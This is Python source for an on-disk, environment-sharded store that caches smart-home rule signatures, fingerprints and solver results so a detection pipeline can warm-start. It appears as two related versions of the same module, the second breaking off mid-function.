        "trigger_fireable": sig.trigger_fireable,
        "trigger_identity": sig.trigger_identity,
        "trigger_attribute": sig.trigger_attribute,
        "trigger_has_device": sig.trigger_has_device,
        "trigger_channel": sig.trigger_channel,
        "trigger_bounds": [
            [op, value] for op, value in sig.trigger_bounds
        ],
        "condition_reads": [
            {
                "identity": read.identity,
                "device": read.attr.device.name,
                "capability": read.attr.device.capability,
                "attribute": read.attr.attribute,
                "channel": read.channel,
            }
            for read in sig.condition_reads
        ],
        "condition_uses_mode": sig.condition_uses_mode,
    }


def _pinned_inputs(resolver: DeviceResolver, ruleset: RuleSet) -> dict:
    """The resolver-configured values for every user input the app's
    trigger/condition constraints read — the same set
    :meth:`ConstraintBuilder._input_pins` pins at solve time, so a
    value change invalidates cached solves via the fingerprint."""
    exprs: list[SymExpr] = []
    for rule in ruleset.rules:
        if rule.trigger.constraint is not None:
            exprs.append(rule.trigger.constraint)
        exprs.extend(rule.condition.predicate_constraints)
        exprs.extend(c.value for c in rule.condition.data_constraints)
    names: set[str] = set()
    for expr in exprs:
        for node in expr.walk():
            if isinstance(node, UserInput):
                names.add(node.name)
    return {
        name: repr(resolver.input_value(ruleset.app_name, name))
        for name in sorted(names)
    }


def app_fingerprint(
    resolver: DeviceResolver,
    ruleset: RuleSet,
    sigs: Iterable[RuleSignature],
) -> str:
    """SHA-256 binding fingerprint of one installed app.

    Covers the rules themselves (loss-free JSON), the signature records
    under the current resolver bindings, and the pinned input values —
    the three inputs that determine every detection verdict involving
    the app.  A mismatch against the persisted fingerprint forces
    re-signing and re-solving (DESIGN.md §8)."""
    document = {
        "rules": [rule_to_json(rule) for rule in ruleset.rules],
        "signatures": [signature_record(sig) for sig in sigs],
        "inputs": _pinned_inputs(resolver, ruleset),
    }
    canonical = json.dumps(document, sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


# ----------------------------------------------------------------------
# Snapshot (parsed store content)


@dataclass(slots=True)
class StoreSnapshot:
    """Parsed content of a store directory (possibly a shard subset)."""

    schema: int
    apps: dict[str, dict]      # app -> {"environment", "fingerprint"}
    shards: dict[str, dict]    # environment -> parsed shard payload
    frontend: dict = field(default_factory=dict)

    def environment(self, app_name: str) -> str | None:
        record = self.apps.get(app_name)
        return None if record is None else record.get("environment", "")

    def fingerprint(self, app_name: str) -> str | None:
        """The persisted fingerprint, or ``None`` when the app is
        unknown *or* its shard was not loaded (treated as stale)."""
        record = self.apps.get(app_name)
        if record is None:
            return None
        if record.get("environment", "") not in self.shards:
            return None
        return record.get("fingerprint")

    def rulesets(self) -> dict[str, RuleSet]:
        """Decode the persisted rulesets of every loaded shard, in
        installation (app-directory) order.

        Structurally malformed app entries (valid JSON, broken shape —
        e.g. a bit-flipped shard that still parses) are skipped: the
        app simply does not restore, which is the documented degraded
        mode, never a crash."""
        decoded: dict[str, RuleSet] = {}
        for app_name, record in self.apps.items():
            if not isinstance(record, dict):
                continue
            shard = self.shards.get(record.get("environment", ""))
            if shard is None:
                continue
            try:
                entry = shard.get("apps", {}).get(app_name)
                if entry is None:
                    continue
                decoded[app_name] = RuleSet(
                    app_name=app_name,
                    rules=[
                        rule_from_json(r) for r in entry.get("ruleset", [])
                    ],
                )
            except Exception:
                continue
        return decoded

    def cache_payloads(self) -> list[dict]:
        return [shard.get("caches", {}) for shard in self.shards.values()]


@dataclass(slots=True)
class WarmStart:
    """Outcome of :meth:`DetectionStore.warm_start` /
    :meth:`DetectionStore.restore_into`."""

    pipeline: DetectionPipeline
    reports: list[ThreatReport]
    warm_apps: list[str]      # fingerprint-validated, caches served
    stale_apps: list[str]     # re-signed and re-solved transparently
    cold: bool = False        # no usable snapshot at all


# ----------------------------------------------------------------------
# The store


class DetectionStore:
    """Versioned on-disk persistence for a detection pipeline.

    See the module docstring for the on-disk format and the warm-start
    invalidation rules.  All read paths are defensive: a missing,
    corrupted or version-mismatched store degrades to a cold start (or
    per-shard to re-signing), never to a crash or a stale result."""

    def __init__(self, path: str | Path) -> None:
        self.path = Path(path)
        # app -> (ruleset, signatures, pinned-inputs json, fingerprint):
        # repeated saves (one per commit) skip re-hashing apps whose
        # signed state did not change.
        self._fingerprint_memo: dict[str, tuple] = {}

    def exists(self) -> bool:
        return (self.path / _META_FILE).is_file()

    def _fingerprint(
        self,
        resolver: DeviceResolver,
        ruleset: RuleSet,
        sigs: list[RuleSignature],
    ) -> str:
        """Memoizing :func:`app_fingerprint`.

        Signatures are immutable and re-signed (as new objects) on any
        binding change, so identity of the ruleset + signature objects
        plus the pinned input values decides whether the cached hash is
        still the truth."""
        pins = json.dumps(_pinned_inputs(resolver, ruleset), sort_keys=True)
        memo = self._fingerprint_memo.get(ruleset.app_name)
        if memo is not None:
            memo_ruleset, memo_sigs, memo_pins, memo_fp = memo
            if (
                memo_ruleset is ruleset
                and memo_pins == pins
                and len(memo_sigs) == len(sigs)
                and all(a is b for a, b in zip(memo_sigs, sigs))
            ):
                return memo_fp
        fingerprint = app_fingerprint(resolver, ruleset, sigs)
        self._fingerprint_memo[ruleset.app_name] = (
            ruleset, list(sigs), pins, fingerprint,
        )
        return fingerprint

    def _write_atomic(self, filename: str, payload: dict) -> None:
        tmp = self.path / f"{filename}.tmp"
        tmp.write_text(json.dumps(payload, default=str), encoding="utf-8")
        os.replace(tmp, self.path / filename)

    # ------------------------------------------------------------------
    # Saving

    def save(
        self,
        pipeline: DetectionPipeline,
        rulesets: Mapping[str, RuleSet] | None = None,
        frontend: dict | None = None,
    ) -> None:
        """Snapshot a pipeline's installed state to the store directory.

        ``rulesets`` optionally supplies the exact extracted rule sets
        (e.g. with their input declarations); when omitted they are
        reconstructed from the installed signatures.  ``frontend`` is an
        opaque JSON-able blob returned verbatim on load (the companion
        app persists its configuration recorder there).

        Shard files carry a *generation* number and ``meta.json`` is
        swapped in atomically (``os.replace``) only after every shard of
        the new generation is on disk, so a crash mid-save always
        leaves the previous snapshot intact (plus harmless orphan files
        the next save cleans up).  Each save rewrites the whole
        snapshot; unchanged apps skip fingerprint re-hashing via a
        memo, but per-commit *delta* snapshots remain a ROADMAP item."""
        resolver = pipeline.engine.resolver
        previous_generation = -1
        try:
            previous_meta = json.loads(
                (self.path / _META_FILE).read_text(encoding="utf-8")
            )
            previous_generation = int(previous_meta.get("generation", -1))
        except (OSError, ValueError, TypeError):
            pass
        generation = previous_generation + 1
        installed = pipeline.installed_signatures()
        # Group apps by environment, preserving installation order.
        apps_by_env: dict[str, list[str]] = {}
        env_of_app: dict[str, str] = {}
        for app_name, sigs in installed.items():
            env = sigs[0].environment if sigs else ""
            env_of_app[app_name] = env
            apps_by_env.setdefault(env, []).append(app_name)

        # Route solve-cache entries to the shard of their first app;
        # entries touching a non-installed (staged/discarded) app are
        # not persisted.
        caches_by_env: dict[str, dict[str, list]] = {
            env: {"situation": [], "condition": [], "effect": []}
            for env in apps_by_env
        }
        for kind, entries in pipeline.engine.export_caches().items():
            for rule_ids, result in entries:
                apps = [app_of_rule_id(rule_id) for rule_id in rule_ids]
                if any(app not in env_of_app for app in apps):
                    continue
                caches_by_env[env_of_app[apps[0]]][kind].append(
                    [rule_ids, result]
                )

        meta_apps: dict[str, dict] = {}
        shard_files: dict[str, str] = {}
        self.path.mkdir(parents=True, exist_ok=True)
        for position, (env, app_names) in enumerate(apps_by_env.items()):
            shard_apps: dict[str, dict] = {}
            shard_index = RuleIndex()
            for app_name in app_names:
                sigs = installed[app_name]
                shard_index.add_ruleset(sigs)
                if rulesets is not None and app_name in rulesets:
                    ruleset = rulesets[app_name]
                else:
                    ruleset = RuleSet(
                        app_name=app_name, rules=[s.rule for s in sigs]
                    )
                fingerprint = self._fingerprint(resolver, ruleset, sigs)
                meta_apps[app_name] = {
                    "environment": env,
                    "fingerprint": fingerprint,
                }
                shard_apps[app_name] = {
                    "fingerprint": fingerprint,
                    "ruleset": [rule_to_json(r) for r in ruleset.rules],
                    "signatures": [signature_record(s) for s in sigs],
                }
            filename = f"shard-{generation:06d}-{position:04d}.json"
            shard_files[env] = filename
            payload = {
                "environment": env,
                "apps": shard_apps,
                "index": shard_index.to_payload(),
                "caches": caches_by_env[env],
            }
            self._write_atomic(filename, payload)
        # Installation order must survive the per-shard grouping above.
        meta_apps = {
            app_name: meta_apps[app_name]
            for app_name in installed
        }
        meta = {
            "format": STORE_FORMAT,
            "schema": SCHEMA_VERSION,
            "generation": generation,
            "apps": meta_apps,
            "shards": shard_files,
            "frontend": frontend or {},
        }
        # The atomic meta replacement is the commit point: until it
        # lands, readers see the previous generation's snapshot; the
        # new generation's shard files are inert orphans.
        self._write_atomic(_META_FILE, meta)
        # Drop files the fresh meta no longer references (previous
        # generations, leftover temp files from crashed saves).
        keep = {_META_FILE, *shard_files.values()}
        for stale in self.path.glob("shard-*.json"):
            if stale.name not in keep:
                stale.unlink(missing_ok=True)
        for stale in self.path.glob("*.tmp"):
            stale.unlink(missing_ok=True)

    # ------------------------------------------------------------------
    # Loading

    def load(
        self, environments: Iterable[str] | None = None
    ) -> StoreSnapshot | None:
        """Parse the store, or ``None`` when it is missing, corrupted,
        or written by a different schema version.

        ``environments`` restricts parsing to the named shards — the
        multi-home fleet path where one install should not pay for the
        whole snapshot.  Apps whose shard is not loaded validate as
        stale (their fingerprints report ``None``)."""
        try:
            meta = json.loads(
                (self.path / _META_FILE).read_text(encoding="utf-8")
            )
        except (OSError, ValueError):
            return None
        if not isinstance(meta, dict):
            return None
        if meta.get("format") != STORE_FORMAT:
            return None
        if meta.get("schema") != SCHEMA_VERSION:
            return None
        apps = meta.get("apps")
        shard_files = meta.get("shards")
        if not isinstance(apps, dict) or not isinstance(shard_files, dict):
            return None
        wanted = None if environments is None else set(environments)
        shards: dict[str, dict] = {}
        for env, filename in shard_files.items():
            if wanted is not None and env not in wanted:
                continue
            try:
                payload = json.loads(
                    (self.path / str(filename)).read_text(encoding="utf-8")
                )
            except (OSError, ValueError):
                continue  # corrupted shard: its apps degrade to stale
            if isinstance(payload, dict):
                shards[env] = payload
        return StoreSnapshot(
            schema=int(meta["schema"]),
            apps=apps,
            shards=shards,
            frontend=meta.get("frontend") or {},
        )

    def load_shard_index(
        self, environment: str, resolver: DeviceResolver
    ) -> tuple[dict[str, RuleSet], RuleIndex] | None:
        """Rebuild a single home's rulesets and inverted index straight
        from its shard file — the per-home query path: nothing outside
        the shard is read, and the index buckets come from the persisted
        payload (not from re-insertion)."""
        snapshot = self.load(environments=[environment])
        if snapshot is None or environment not in snapshot.shards:
            return None
        rulesets = snapshot.rulesets()
        signatures: dict[str, RuleSignature] = {}
        builder = SignatureBuilder(resolver)
        for ruleset in rulesets.values():
            for sig in builder.sign_ruleset(ruleset):
                signatures[sig.rule_id] = sig
        index = RuleIndex.from_payload(
            snapshot.shards[environment].get("index", {}), signatures
        )
        return rulesets, index

    # ------------------------------------------------------------------
    # Warm start

    def _validate(
        self,
        pipeline: DetectionPipeline,
        snapshot: StoreSnapshot,
        rulesets: Iterable[RuleSet],
    ) -> tuple[list[str], list[str]]:
        """Split apps into warm (persisted fingerprint matches the
        current bindings) and stale (everything else)."""
        resolver = pipeline.engine.resolver
        warm: list[str] = []
        stale: list[str] = []
        for ruleset in rulesets:
            sigs = pipeline.engine.signatures.sign_ruleset(ruleset)
            recorded = snapshot.fingerprint(ruleset.app_name)
            if recorded is not None and recorded == app_fingerprint(
                resolver, ruleset, sigs
            ):
                warm.append(ruleset.app_name)
            else:
                stale.append(ruleset.app_name)
        return warm, stale

    def warm_start(
        self,
        resolver: DeviceResolver,
        rulesets: list[RuleSet] | None = None,
        include_intra_app: bool = True,
        index: RuleIndex | ShardedRuleIndex | None = None,
    ) -> WarmStart:
        """Replay a full store audit on a fresh pipeline, serving every
        solve of fingerprint-validated apps from the persisted caches.

        With an unchanged store the replay performs **zero** solver
        calls and reports a threat set identical to the cold audit; apps
        whose bindings changed (and pairs touching them) re-solve
        transparently.  ``rulesets`` defaults to the persisted ones, so
        a bare ``warm_start(resolver)`` re-audits the stored fleet."""
        pipeline = DetectionPipeline(
            resolver,
            include_intra_app=include_intra_app,
            index=ShardedRuleIndex() if index is None else index,
        )
        environments = None
        if rulesets is not None:
            environments = {
                environment_of(resolver, ruleset.app_name)
                for ruleset in rulesets
            }
        snapshot = self.load(environments=environments)
        if snapshot is None:
            audited = list(rulesets) if rulesets is not None else []
            return WarmStart(
                pipeline=pipeline,
                reports=pipeline.audit_store(audited),
                warm_apps=[],
                stale_apps=[ruleset.app_name for ruleset in audited],
                cold=True,
            )
        if rulesets is None:
            rulesets = list(snapshot.rulesets().values())
        warm, stale = self._validate(pipeline, snapshot, rulesets)
        valid = set(warm)
        for payload in snapshot.cache_payloads():
            pipeline.engine.import_caches(payload, valid)
        reports = pipeline.audit_store(rulesets)
        return WarmStart(
            pipeline=pipeline,
            reports=reports,
            warm_apps=warm,
            stale_apps=stale,
            cold=False,
        )

    def restore_into(
        self,
        pipeline: DetectionPipeline,
        rulesets: list[RuleSet] | None = None,
        snapshot: StoreSnapshot | None = None,
    ) -> WarmStart:
        """Load the persisted installation state into an existing (live)
        pipeline without re-reviewing warm apps.

        Fingerprint-validated apps are installed via
        :meth:`DetectionPipeline.restore_ruleset` (no detection, no
        solver calls — their past reviews were already decided); stale
        apps are re-audited through :meth:`DetectionPipeline.add_ruleset`
        and their fresh reports returned.  This is the companion app's
        load-on-startup path.  ``snapshot`` lets a caller that already
        parsed the store (e.g. for its frontend blob) skip a re-read.

        With no usable snapshot, any passed rulesets are still audited
        cold (all stale) — same degradation as :meth:`warm_start`."""
        if snapshot is None:
            snapshot = self.load()
        if snapshot is None:
            audited = list(rulesets) if rulesets is not None else []
            return WarmStart(
                pipeline=pipeline,
                reports=[pipeline.add_ruleset(r) for r in audited],
                warm_apps=[],
                stale_apps=[r.app_name for r in audited],
                cold=True,
            )
        if rulesets is None:
            rulesets = list(snapshot.rulesets().values())
        warm, stale = self._validate(pipeline, snapshot, rulesets)
        valid = set(warm)
        for payload in snapshot.cache_payloads():
            pipeline.engine.import_caches(payload, valid)
        reports: list[ThreatReport] = []
        for ruleset in rulesets:
            if ruleset.app_name in valid:
                pipeline.restore_ruleset(ruleset)
            else:
                reports.append(pipeline.add_ruleset(ruleset))
        return WarmStart(
            pipeline=pipeline,
            reports=reports,
            warm_apps=warm,
            stale_apps=stale,
            cold=False,
        )
