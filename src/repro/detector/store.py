"""Persistent, environment-sharded detection store (DESIGN.md §8).

The paper's engine pre-stores its M_AR / M_GC mappings so repeated
audits are cheap (§VI); this module extends that idea across *process
boundaries*: everything a :class:`~repro.detector.pipeline
.DetectionPipeline` learned during an audit — the per-rule
:class:`~repro.detector.signature.RuleSignature` facts, the inverted
:class:`~repro.detector.index.RuleIndex` buckets, and the engine's
situation/condition/effect solve caches — is serialized to a versioned
on-disk store, so a fresh process can *warm-start* and re-audit an
unchanged 5k-app store with **zero solver calls** while reporting the
exact same threat set as the cold run.

On-disk format (schema version 3)
---------------------------------

A store is a set of named documents plus an append-only journal,
persisted through a pluggable :class:`~repro.detector.storage
.StoreBackend` (DESIGN.md §14).  Under the default
:class:`~repro.detector.storage.DirectoryBackend` that is a
directory::

    <store>/
      meta.json         # format marker, schema version, app directory
      shard-000002-0000.json   # one file per environment (home)
      shard-000002-0001.json
      journal.jsonl     # per-commit delta records since the base
      ...

(the ``"sqlite"`` backend packs the same documents and journal into
one shareable WAL-mode database file instead).

``meta.json`` holds ``{"format", "schema", "generation", "apps": {app:
{"environment", "fingerprint"}}, "shards": {environment: filename},
"frontend": {...}}`` — the app directory is ordered by installation,
and ``frontend`` is an opaque blob the companion app uses for its
configuration recorder, Allowed list and review/decision history (past
install screens and the user's keep/delete choices re-render after a
warm restart; see :meth:`repro.frontend.app.HomeGuardApp.save_store`).

Each shard file carries one environment's slice of the detection state:
the serialized rulesets (loss-free, via :mod:`repro.rules
.serialization`), the per-rule signature records, and every solve-cache
entry whose rules live in that home.  Sharding is the multi-home fleet
story: a controller restoring a single home's install parses one shard
file, not the whole snapshot (:meth:`DetectionStore.load` takes an
``environments`` filter, and :meth:`DetectionStore.load_shard_index`
rebuilds one home's index directly).

Delta snapshots and compaction
------------------------------

:meth:`DetectionStore.save` rewrites the full snapshot (the *base*);
:meth:`DetectionStore.commit_app` appends one compact delta record per
keep/delete decision to the journal instead — O(changed app), not
O(store).  :meth:`DetectionStore.load` replays the journal's longest
consistent prefix over the base (see :mod:`repro.detector.storage
.journal` for the record format and crash-recovery semantics), and a
size-triggered **compaction** (or an explicit :meth:`DetectionStore
.compact`) folds the journal back into fresh base shards, garbage-
collecting deleted-app and decided-session debris.  Replay is exactly
equivalent to the eager full-rewrite path, so compaction never changes
what a load observes.

Warm-start invalidation rules
-----------------------------

Stale results are never served.  A persisted app's cached state is used
only when **all** of the following hold, and transparent re-signing
(plus re-solving) happens otherwise:

* the store's ``format`` marker and ``schema`` version match exactly —
  otherwise the whole snapshot is ignored (cold start);
* the app's shard file is present and parseable — corrupted or missing
  shards degrade only their own apps to re-signing;
* the app's *fingerprint* matches: a SHA-256 over the serialized rules,
  the signature records derived under the **current** resolver
  bindings, and the resolver-pinned input values.  Any change to the
  rules, the device bindings (identities/types/environments), or the
  configured input values changes the fingerprint, so re-binding an
  app re-solves every pair that touches it.

Solve-cache entries are imported only when every rule id they mention
belongs to a fingerprint-validated app (see
:meth:`~repro.detector.engine.DetectionEngine.import_caches`).
"""

from __future__ import annotations

import hashlib
import json
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Mapping

from repro.constraints.builder import DeviceResolver, environment_of
from repro.detector.engine import app_of_rule_id
from repro.detector.index import RuleIndex, ShardedRuleIndex
from repro.detector.pipeline import DetectionPipeline
from repro.detector.signature import RuleSignature, SignatureBuilder
from repro.detector.storage import StoreBackend, make_store_backend
from repro.detector.storage import journal as journal_format
from repro.detector.types import ThreatReport
from repro.rules.model import RuleSet
from repro.rules.serialization import rule_from_json, rule_to_json
from repro.symex.values import SymExpr, UserInput

STORE_FORMAT = "homeguard-detection-store"
# v3: per-commit delta journals + pluggable backends (DESIGN.md §14) —
# shard payloads dropped the persisted index buckets (re-signed on
# load instead), so v2 readers must reject v3 stores and vice versa.
SCHEMA_VERSION = 3

_META_FILE = "meta.json"
_JOURNAL_FILE = "journal.jsonl"


# ----------------------------------------------------------------------
# Signature records and binding fingerprints


def signature_record(sig: RuleSignature) -> dict:
    """A :class:`RuleSignature`'s derived fields as a JSON-able record.

    This is the persisted form of a signature: everything the candidate
    tests read, minus the live :class:`~repro.rules.model.Rule` object
    (rules are persisted separately, loss-free).  The record doubles as
    the binding-sensitive part of the app fingerprint — identities,
    environments, channels and effects all come from the resolver, so
    any re-binding changes the record."""
    return {
        "rule_id": sig.rule_id,
        "environment": sig.environment,
        "is_device_action": sig.is_device_action,
        "sets_location_mode": sig.sets_location_mode,
        "action_identity": sig.action_identity,
        "action_type": sig.action_type,
        "command_target": (
            list(sig.command_target) if sig.command_target else None
        ),
        "action_effects": {
            channel: effect.value
            for channel, effect in sorted(sig.action_effects.items())
        },
        "trigger_fireable": sig.trigger_fireable,
        "trigger_identity": sig.trigger_identity,
        "trigger_attribute": sig.trigger_attribute,
        "trigger_has_device": sig.trigger_has_device,
        "trigger_channel": sig.trigger_channel,
        "trigger_bounds": [
            [op, value] for op, value in sig.trigger_bounds
        ],
        "condition_reads": [
            {
                "identity": read.identity,
                "device": read.attr.device.name,
                "capability": read.attr.device.capability,
                "attribute": read.attr.attribute,
                "channel": read.channel,
            }
            for read in sig.condition_reads
        ],
        "condition_uses_mode": sig.condition_uses_mode,
    }


def _pinned_inputs(resolver: DeviceResolver, ruleset: RuleSet) -> dict:
    """The resolver-configured values for every user input the app's
    trigger/condition constraints read — the same set
    :meth:`ConstraintBuilder._input_pins` pins at solve time, so a
    value change invalidates cached solves via the fingerprint."""
    exprs: list[SymExpr] = []
    for rule in ruleset.rules:
        if rule.trigger.constraint is not None:
            exprs.append(rule.trigger.constraint)
        exprs.extend(rule.condition.predicate_constraints)
        exprs.extend(c.value for c in rule.condition.data_constraints)
    names: set[str] = set()
    for expr in exprs:
        for node in expr.walk():
            if isinstance(node, UserInput):
                names.add(node.name)
    return {
        name: repr(resolver.input_value(ruleset.app_name, name))
        for name in sorted(names)
    }


def app_fingerprint(
    resolver: DeviceResolver,
    ruleset: RuleSet,
    sigs: Iterable[RuleSignature],
) -> str:
    """SHA-256 binding fingerprint of one installed app.

    Covers the rules themselves (loss-free JSON), the signature records
    under the current resolver bindings, and the pinned input values —
    the three inputs that determine every detection verdict involving
    the app.  A mismatch against the persisted fingerprint forces
    re-signing and re-solving (DESIGN.md §8)."""
    document = {
        "rules": [rule_to_json(rule) for rule in ruleset.rules],
        "signatures": [signature_record(sig) for sig in sigs],
        "inputs": _pinned_inputs(resolver, ruleset),
    }
    canonical = json.dumps(document, sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


# ----------------------------------------------------------------------
# Snapshot (parsed store content)


@dataclass(slots=True)
class StoreSnapshot:
    """Parsed content of a store directory (possibly a shard subset)."""

    schema: int
    apps: dict[str, dict]      # app -> {"environment", "fingerprint"}
    shards: dict[str, dict]    # environment -> parsed shard payload
    frontend: dict = field(default_factory=dict)

    def environment(self, app_name: str) -> str | None:
        record = self.apps.get(app_name)
        return None if record is None else record.get("environment", "")

    def fingerprint(self, app_name: str) -> str | None:
        """The persisted fingerprint, or ``None`` when the app is
        unknown *or* its shard was not loaded (treated as stale)."""
        record = self.apps.get(app_name)
        if record is None:
            return None
        if record.get("environment", "") not in self.shards:
            return None
        return record.get("fingerprint")

    def rulesets(self) -> dict[str, RuleSet]:
        """Decode the persisted rulesets of every loaded shard, in
        installation (app-directory) order.

        Structurally malformed app entries (valid JSON, broken shape —
        e.g. a bit-flipped shard that still parses) are skipped: the
        app simply does not restore, which is the documented degraded
        mode, never a crash."""
        decoded: dict[str, RuleSet] = {}
        for app_name, record in self.apps.items():
            if not isinstance(record, dict):
                continue
            shard = self.shards.get(record.get("environment", ""))
            if shard is None:
                continue
            try:
                entry = shard.get("apps", {}).get(app_name)
                if entry is None:
                    continue
                decoded[app_name] = RuleSet(
                    app_name=app_name,
                    rules=[
                        rule_from_json(r) for r in entry.get("ruleset", [])
                    ],
                )
            except Exception:
                continue
        return decoded

    def cache_payloads(self) -> list[dict]:
        return [shard.get("caches", {}) for shard in self.shards.values()]


@dataclass(slots=True)
class WarmStart:
    """Outcome of :meth:`DetectionStore.warm_start` /
    :meth:`DetectionStore.restore_into`."""

    pipeline: DetectionPipeline
    reports: list[ThreatReport]
    warm_apps: list[str]      # fingerprint-validated, caches served
    stale_apps: list[str]     # re-signed and re-solved transparently
    cold: bool = False        # no usable snapshot at all


@dataclass(slots=True)
class StoreCommit:
    """Receipt of one :meth:`DetectionStore.commit_app`: what the
    backend durably wrote and how long the commit took — the source of
    the ``store_bytes_written`` / ``store_commit_seconds`` counters."""

    bytes_written: int
    seconds: float
    compacted: bool = False   # this commit triggered a compaction
    full: bool = False        # fell back to a full snapshot rewrite


@dataclass(slots=True)
class _JournalState:
    """In-process journal bookkeeping for the delta-commit path: the
    base generation being extended, the next record sequence number,
    size counters for the compaction trigger, and the set of cache
    keys currently persisted (base + journal) per cache kind, which is
    what turns the engine's full cache export into a delta."""

    base: int
    next_seq: int
    records: int
    bytes: int
    persisted: dict[str, set[tuple]]


# ----------------------------------------------------------------------
# The store


class DetectionStore:
    """Versioned on-disk persistence for a detection pipeline.

    See the module docstring for the on-disk format and the warm-start
    invalidation rules.  All read paths are defensive: a missing,
    corrupted or version-mismatched store degrades to a cold start (or
    per-shard to re-signing), never to a crash or a stale result."""

    #: Compaction triggers: a commit that grows the journal past either
    #: bound folds it back into fresh base shards.  Class attributes so
    #: deployments (and tests) can tune them per store instance.
    journal_max_records = 64
    journal_max_bytes = 1 << 20

    def __init__(
        self,
        path: str | Path,
        backend: "str | StoreBackend | None" = None,
        delta: bool = True,
    ) -> None:
        self.path = Path(path)
        self.backend = make_store_backend(backend, self.path)
        #: When ``False``, :meth:`commit_app` always rewrites the full
        #: snapshot (the pre-§14 eager behavior) — the reference arm the
        #: equivalence gates and benchmarks compare the delta path to.
        self.delta = delta
        self._journal: _JournalState | None = None
        # app -> (ruleset, signatures, pinned-inputs json, fingerprint):
        # repeated saves (one per commit) skip re-hashing apps whose
        # signed state did not change.
        self._fingerprint_memo: dict[str, tuple] = {}

    def exists(self) -> bool:
        return self.backend.has_doc(_META_FILE)

    def _fingerprint(
        self,
        resolver: DeviceResolver,
        ruleset: RuleSet,
        sigs: list[RuleSignature],
    ) -> str:
        """Memoizing :func:`app_fingerprint`.

        Signatures are immutable and re-signed (as new objects) on any
        binding change, so identity of the ruleset + signature objects
        plus the pinned input values decides whether the cached hash is
        still the truth."""
        pins = json.dumps(_pinned_inputs(resolver, ruleset), sort_keys=True)
        memo = self._fingerprint_memo.get(ruleset.app_name)
        if memo is not None:
            memo_ruleset, memo_sigs, memo_pins, memo_fp = memo
            if (
                memo_ruleset is ruleset
                and memo_pins == pins
                and len(memo_sigs) == len(sigs)
                and all(a is b for a, b in zip(memo_sigs, sigs))
            ):
                return memo_fp
        fingerprint = app_fingerprint(resolver, ruleset, sigs)
        self._fingerprint_memo[ruleset.app_name] = (
            ruleset, list(sigs), pins, fingerprint,
        )
        return fingerprint

    def _write_atomic(self, filename: str, payload: dict) -> int:
        return self.backend.write_doc(
            filename, json.dumps(payload, default=str)
        )

    # ------------------------------------------------------------------
    # Saving

    def save(
        self,
        pipeline: DetectionPipeline,
        rulesets: Mapping[str, RuleSet] | None = None,
        frontend: dict | None = None,
    ) -> int:
        """Snapshot a pipeline's installed state to the store; returns
        the bytes durably written (the full-rewrite cost the delta path
        is benchmarked against).

        ``rulesets`` optionally supplies the exact extracted rule sets
        (e.g. with their input declarations); when omitted they are
        reconstructed from the installed signatures.  ``frontend`` is an
        opaque JSON-able blob returned verbatim on load (the companion
        app persists its configuration recorder there).

        Shard documents carry a *generation* number and ``meta.json``
        is replaced atomically only after every shard of the new
        generation is durable, so a crash mid-save always leaves the
        previous snapshot intact (plus harmless orphan documents the
        next save cleans up).  A successful save is also a
        **compaction**: the journal's records are superseded by the new
        base (their ``base`` generation is now stale), so the journal
        is dropped and the delta state reset."""
        resolver = pipeline.engine.resolver
        previous_generation = -1
        try:
            meta_text = self.backend.read_doc(_META_FILE)
            if meta_text is not None:
                previous_meta = json.loads(meta_text)
                previous_generation = int(
                    previous_meta.get("generation", -1)
                )
        except (ValueError, TypeError, AttributeError):
            pass
        generation = previous_generation + 1
        bytes_written = 0
        installed = pipeline.installed_signatures()
        # Group apps by environment, preserving installation order.
        apps_by_env: dict[str, list[str]] = {}
        env_of_app: dict[str, str] = {}
        for app_name, sigs in installed.items():
            env = sigs[0].environment if sigs else ""
            env_of_app[app_name] = env
            apps_by_env.setdefault(env, []).append(app_name)

        # Route solve-cache entries to the shard of their first app;
        # entries touching a non-installed (staged/discarded) app are
        # not persisted.
        caches_by_env: dict[str, dict[str, list]] = {
            env: {"situation": [], "condition": [], "effect": []}
            for env in apps_by_env
        }
        for kind, entries in pipeline.engine.export_caches().items():
            for rule_ids, result in entries:
                apps = [app_of_rule_id(rule_id) for rule_id in rule_ids]
                if any(app not in env_of_app for app in apps):
                    continue
                caches_by_env[env_of_app[apps[0]]][kind].append(
                    [rule_ids, result]
                )

        meta_apps: dict[str, dict] = {}
        shard_files: dict[str, str] = {}
        for position, (env, app_names) in enumerate(apps_by_env.items()):
            shard_apps: dict[str, dict] = {}
            for app_name in app_names:
                sigs = installed[app_name]
                if rulesets is not None and app_name in rulesets:
                    ruleset = rulesets[app_name]
                else:
                    ruleset = RuleSet(
                        app_name=app_name, rules=[s.rule for s in sigs]
                    )
                fingerprint = self._fingerprint(resolver, ruleset, sigs)
                meta_apps[app_name] = {
                    "environment": env,
                    "fingerprint": fingerprint,
                }
                shard_apps[app_name] = {
                    "fingerprint": fingerprint,
                    "ruleset": [rule_to_json(r) for r in ruleset.rules],
                    "signatures": [signature_record(s) for s in sigs],
                }
            filename = f"shard-{generation:06d}-{position:04d}.json"
            shard_files[env] = filename
            payload = {
                "environment": env,
                "apps": shard_apps,
                "caches": caches_by_env[env],
            }
            bytes_written += self._write_atomic(filename, payload)
        # Installation order must survive the per-shard grouping above.
        meta_apps = {
            app_name: meta_apps[app_name]
            for app_name in installed
        }
        meta = {
            "format": STORE_FORMAT,
            "schema": SCHEMA_VERSION,
            "generation": generation,
            "apps": meta_apps,
            "shards": shard_files,
            "frontend": frontend or {},
        }
        # The atomic meta replacement is the commit point: until it
        # lands, readers see the previous generation's snapshot; the
        # new generation's shard documents are inert orphans.
        bytes_written += self._write_atomic(_META_FILE, meta)
        # The journal is superseded: any surviving records pin the old
        # base generation and would be inert on replay anyway.
        self.backend.delete(_JOURNAL_FILE)
        # Drop documents the fresh meta no longer references (previous
        # generations, leftover temporaries from crashed saves).
        keep = set(shard_files.values())
        for stale in self.backend.list_docs("shard-"):
            if stale not in keep:
                self.backend.delete(stale)
        self.backend.sweep()
        self._journal = _JournalState(
            base=generation,
            next_seq=0,
            records=0,
            bytes=0,
            persisted={
                kind: {
                    tuple(entry[0])
                    for env in caches_by_env
                    for entry in caches_by_env[env][kind]
                }
                for kind in journal_format.CACHE_KINDS
            },
        )
        return bytes_written

    # ------------------------------------------------------------------
    # Delta commits and compaction

    def _init_journal(self) -> None:
        """Seed the in-process delta state from whatever is durable:
        base generation, surviving journal prefix length, and the set
        of cache keys the store currently persists per kind."""
        loaded = self._load()
        if loaded is None:
            self._journal = None
            return
        snapshot, next_seq, journal_bytes, generation, _failed = loaded
        persisted: dict[str, set[tuple]] = {
